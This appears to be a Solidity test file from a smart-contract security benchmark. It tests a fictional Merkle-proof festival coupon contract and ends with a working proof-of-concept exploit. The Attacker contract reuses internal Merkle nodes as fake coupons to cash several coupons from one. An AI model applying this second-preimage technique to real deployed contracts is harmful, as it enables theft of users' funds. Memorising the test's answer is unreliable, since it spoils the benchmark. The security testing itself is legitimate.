// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./FestivalCoupons.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-8f99ce2c-e652-4379-b6aa-0842eba0d39c

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function roll(uint256 number) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Meals is ERC20 {
    constructor() ERC20("Meals", "MEAL") {
        _mint(msg.sender, 1_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_700_000_000;

    Meals private token;
    FestivalCoupons private coupons;
    Attacker private mallory;
    bytes32[4] private leaves;

    function serial(uint256 i) private pure returns (bytes32) {
        return bytes32(1_000 + i);
    }

    function code(uint256 i) private pure returns (bytes32) {
        return keccak256(abi.encode("scratched", i));
    }

    function node(bytes32 a, bytes32 b) private pure returns (bytes32) {
        return a < b ? keccak256(bytes.concat(a, b)) : keccak256(bytes.concat(b, a));
    }

    function path(uint256 i) private view returns (bytes32[] memory out) {
        out = new bytes32[](2);
        out[0] = leaves[i ^ 1];
        out[1] = i < 2 ? node(leaves[2], leaves[3]) : node(leaves[0], leaves[1]);
    }

    function root() private view returns (bytes32) {
        return node(node(leaves[0], leaves[1]), node(leaves[2], leaves[3]));
    }

    function setUp() public {
        vm.warp(START);
        token = new Meals();
        coupons = new FestivalCoupons(token, address(this));
        for (uint256 i = 0; i < 4; i++) {
            leaves[i] = coupons.leafOf(serial(i), code(i));
        }
        token.approve(address(coupons), type(uint256).max);
        coupons.open(root(), 10e18, 4, uint64(START + 30 days));
        mallory = new Attacker(coupons, serial(0), code(0), path(0));
    }

    function take(address who, uint256 i) private {
        vm.startPrank(who);
        coupons.announce(coupons.digestOf(who, 0, serial(i), code(i)));
        vm.roll(block.number + 1);
        coupons.cash(0, serial(i), code(i), path(i));
        vm.stopPrank();
    }

    function test_Regular() public {
        take(ANA, 1);
        take(BEN, 2);
        require(token.balanceOf(ANA) == 10e18 && token.balanceOf(BEN) == 10e18 && coupons.cashed(0, leaves[2]), "cashed");
        require(coupons.open(root(), 5e18, 4, uint64(START + 40 days)) == 1 && coupons.count() == 2, "a second edition");
        take(ANA, 3);
        vm.warp(START + 30 days);
        coupons.close(0, BEN);
        require(token.balanceOf(BEN) == 20e18 && token.balanceOf(address(coupons)) == 20e18, "closed");
        coupons.transferOwnership(ANA);
        vm.prank(ANA);
        coupons.acceptOwnership();
        vm.prank(ANA);
        coupons.renounceOwnership();
    }

    function test_RefusesOwners() public {
        vm.expectRevert("no meals");
        new FestivalCoupons(IERC20(address(0)), address(this));
        bytes32 r = root();
        vm.expectRevert("no root");
        coupons.open(bytes32(0), 1, 1, uint64(START + 1));
        vm.expectRevert("worth nothing");
        coupons.open(r, 0, 1, uint64(START + 1));
        vm.expectRevert("no coupons");
        coupons.open(r, 1, 0, uint64(START + 1));
        vm.expectRevert("over already");
        coupons.open(r, 1, 1, uint64(START));
        vm.expectRevert(abi.encodeWithSelector(FestivalCoupons.Unknown.selector, 1));
        coupons.close(1, BEN);
        vm.expectRevert(FestivalCoupons.TooEarly.selector);
        coupons.close(0, BEN);
        vm.warp(START + 30 days);
        vm.expectRevert(bytes("nobody"));
        coupons.close(0, address(0));
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        coupons.close(0, BEN);
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, BEN));
        coupons.open(r, 1, 1, uint64(START + 60 days));
    }

    function test_RefusesHolders() public {
        bytes32[] memory p = path(0);
        bytes32[] memory q = path(1);
        vm.expectRevert("no code");
        coupons.leafOf(serial(0), 0);
        vm.startPrank(ANA);
        vm.expectRevert(bytes("empty"));
        coupons.announce(0);
        vm.expectRevert("not announced");
        coupons.cash(0, serial(0), code(0), p);
        vm.expectRevert(abi.encodeWithSelector(FestivalCoupons.Unknown.selector, 1));
        coupons.cash(1, serial(0), code(0), p);
        coupons.announce(coupons.digestOf(ANA, 0, serial(0), code(0)));
        vm.expectRevert(FestivalCoupons.TooEarly.selector);
        coupons.cash(0, serial(0), code(0), p);
        vm.roll(block.number + 1);
        vm.expectRevert(FestivalCoupons.NotPrinted.selector);
        coupons.cash(0, serial(0), code(0), q);
        coupons.cash(0, serial(0), code(0), p);
        vm.stopPrank();
        vm.startPrank(BEN);
        coupons.announce(coupons.digestOf(BEN, 0, serial(0), code(0)));
        vm.roll(block.number + 1);
        vm.expectRevert(FestivalCoupons.Cashed.selector);
        coupons.cash(0, serial(0), code(0), p);
        coupons.announce(coupons.digestOf(BEN, 0, serial(1), code(1)));
        vm.roll(block.number + 1);
        vm.warp(START + 30 days);
        vm.expectRevert(FestivalCoupons.TooLate.selector);
        coupons.cash(0, serial(1), code(1), q);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.first();
        vm.roll(block.number + 1);
        mallory.second();
        vm.roll(block.number + 1);
        mallory.third();
        vm.roll(block.number + 1);
        mallory.fourth();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 30e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(coupons);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function meals() public view returns (address) {
        return address(token);
    }
}

contract Attacker {
    FestivalCoupons private coupons;
    bytes32 private serial;
    bytes32 private code;
    bytes32[] private path;

    constructor(FestivalCoupons c, bytes32 s, bytes32 d, bytes32[] memory p) {
        coupons = c;
        serial = s;
        code = d;
        path = p;
    }

    function say() private {
        coupons.announce(coupons.digestOf(address(this), 0, serial, code));
    }

    function show() private {
        coupons.cash(0, serial, code, path);
        bytes32 leaf = coupons.leafOf(serial, code);
        bytes32 beside = path[0];
        (serial, code) = leaf < beside ? (leaf, beside) : (beside, leaf);
        for (uint256 i = 1; i < path.length; i++) {
            path[i - 1] = path[i];
        }
        path.pop();
    }

    function first() external {
        say();
    }

    function second() external {
        show();
        say();
    }

    function third() external {
        show();
        say();
    }

    function fourth() external {
        coupons.cash(0, serial, code, path);
    }
}
